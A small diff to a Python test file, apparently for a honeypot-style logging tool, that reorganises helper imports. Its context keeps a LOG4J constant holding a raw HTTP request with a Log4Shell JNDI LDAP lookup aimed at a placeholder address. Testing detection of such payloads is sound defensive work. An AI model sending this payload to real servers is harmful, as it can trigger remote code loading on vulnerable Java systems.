@@ -11,9 +11,9 @@ import shutil
 import sqlite3
 import subprocess
 
-from conftest import FLYPAPER, ROOT, query, wait_for
+from conftest import FLYPAPER, ROOT, query, send_from, wait_for
 from test_escape import assert_html_safe, assert_terminal_safe
-from test_shape import curl, send_from
+from test_shape import curl
 
 LOG4J = b"GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n"
 
